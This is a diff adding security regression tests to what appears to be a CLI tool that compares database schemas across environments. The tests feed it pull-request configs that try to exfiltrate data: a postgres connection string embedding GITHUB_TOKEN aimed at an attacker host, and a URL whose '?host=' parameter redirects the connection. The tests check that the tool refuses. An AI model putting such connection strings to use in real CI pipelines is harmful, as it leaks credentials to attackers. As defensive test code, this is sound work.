@@ -97,6 +97,20 @@ sources:
     expectNothingLeft(result, before);
   });
 
+  it('a schema source connecting to its own host, on a pull_request event without --config-ref: refused, exit 2', async () => {
+    const { dir } = pullRequestRepo(TRUSTED, {
+      'parity.yaml': `${attackerHosts()}  db: { type: schema, connection: "postgres://reader:\${ENV:GITHUB_TOKEN}@${at()}/app" }
+`,
+    });
+    const result = await runCli(['diff', 'staging', 'production'], {
+      cwd: dir,
+      env: { ...JOB, GITHUB_EVENT_NAME: 'pull_request' },
+    });
+    expect(result.code).toBe(2);
+    expect(result.stderr).toMatch(/sources\.db \(schema\).*--config-ref/s);
+    expectNothingLeft(result, before);
+  });
+
   it('the same under pull_request_target', async () => {
     const { dir } = pullRequestRepo(TRUSTED, { 'parity.yaml': probeToAttacker() });
     const result = await runCli(['diff', 'staging', 'production'], {
@@ -220,6 +234,35 @@ sources:
     ).toBe(
       `connection host ${attacker.host} is not among this environment's hosts, allowHosts or RDS endpoints (declare it there)`,
     );
+    expectNothingLeft(result, before);
+  });
+
+  it('schema: a database URL the pull request rewrote to its own host, or redirected by ?host=: refused, nothing reaches it', async () => {
+    const trusted = {
+      ...TRUSTED,
+      'parity.yaml': `${TRUSTED['parity.yaml']}  db: { type: schema, connection: "\${params:DATABASE_URL}" }
+`,
+    };
+    const { dir, base } = pullRequestRepo(trusted, {
+      'ssm-staging.json': ssmExport('staging', `postgres://app:${DB_PASSWORD}@${at()}/app`),
+      'ssm-production.json': ssmExport(
+        'production',
+        // Its own declared host, redirected by libpq's `host` parameter.
+        `postgres://app:${DB_PASSWORD}@example.com/app?host=${attacker.host}&port=${attacker.port}`,
+      ),
+    });
+    const result = await runCli(
+      ['diff', 'staging', 'production', '--config-ref', base, '-f', 'json'],
+      { cwd: dir, env: { ...JOB, GITHUB_EVENT_NAME: 'pull_request' } },
+    );
+    expect(result.code).toBe(2);
+    const errors = jsonReport(result)
+      .sources.filter((s) => s.name === 'db')
+      .map((s) => `${s.environment}: ${s.error ?? ''}`);
+    expect(errors).toEqual([
+      `staging: connection host ${attacker.host} is not among this environment's hosts, allowHosts or RDS endpoints (declare it there)`,
+      'production: connection parameter "host" is not allowed (it could redirect the connection or change the session); only sslmode is',
+    ]);
     expectNothingLeft(result, before);
   });
 
